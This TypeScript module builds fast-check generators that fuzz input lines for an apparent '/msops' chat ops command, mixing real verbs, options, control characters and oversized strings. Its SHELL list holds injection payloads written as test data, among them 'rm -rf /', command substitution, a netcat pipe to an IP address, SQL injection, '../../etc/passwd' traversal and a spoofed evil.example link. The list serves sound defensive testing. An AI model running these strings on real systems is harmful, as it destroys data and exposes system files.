import fc from 'fast-check';

/** What ends up in a chat's input: verbs and names that exist, names of others, and everything that is no name at all. */
const NAMES = ['prod', 'dev', 'acme/prod', 'globex/prod', 'initech', 'apim-1', 'gw-1', 'T0GLOBEX:U0GUS', '<@U0GUS>'];
const VERBS = [
  ...['status', 'hosts', 'connect', 'audit', 'help', 'STATUS', 'stauts', '--help', '-h', '--'],
  ...['patch', 'patch plan', 'patch apply', 'patch auto', 'patch undo', 'rollouts', 'rollout', 'break-glass', 'unlock'],
];
const OPTIONS = [
  ...['--hosts', '--hosts=gw-1,,', '--product', '--product=mi', '--level=0', '--level=1e9', '--at=never', '--at'],
  ...['--reason', '--security', '--enable', '--repair', '--refresh=no'],
  '--since',
  '--since=7d',
  '--who',
  '--who=alice',
  '--env',
  '--env=globex/prod',
  `--since=${'999999d'.repeat(104)}`,
];
const SHELL = [
  '; rm -rf /',
  '$(touch /tmp/owned)',
  '`id`',
  '| nc 192.0.2.1 1',
  '&& reboot',
  '\nreboot\n',
  "' or 1=1 --",
  '../../etc/passwd',
  '%s%n',
  '$IFS$9',
  '<!channel>',
  '<https://evil.example|prod>',
];

const odd = fc.string({ unit: 'binary', maxLength: 60 });
const controls = fc.string({
  unit: fc.constantFrom('\u0000', '\u0007', '\u001b', '\u200b', '\u202e', '\ud800', '\n', ' '),
  maxLength: 20,
});
const quotes = fc.string({
  unit: fc.constantFrom('“', '”', '‘', '’', '"', "'", '`', '—', '\\', 'a', ' '),
  maxLength: 20,
});
const long = fc.constantFrom('x'.repeat(10_000), 'prod '.repeat(2_000), '😀'.repeat(900), '"'.repeat(1_999));

const word = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NAMES) },
  { weight: 2, arbitrary: fc.constantFrom(...OPTIONS) },
  { weight: 3, arbitrary: fc.constantFrom(...SHELL) },
  odd,
  controls,
  quotes,
  long,
);

/** A line as somebody may type it after `/msops`. */
export const typedLine: fc.Arbitrary<string> = fc
  .tuple(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...VERBS) }, word), fc.array(word, { maxLength: 4 }))
  .map(([verb, words]) => [verb, ...words].join(' '));
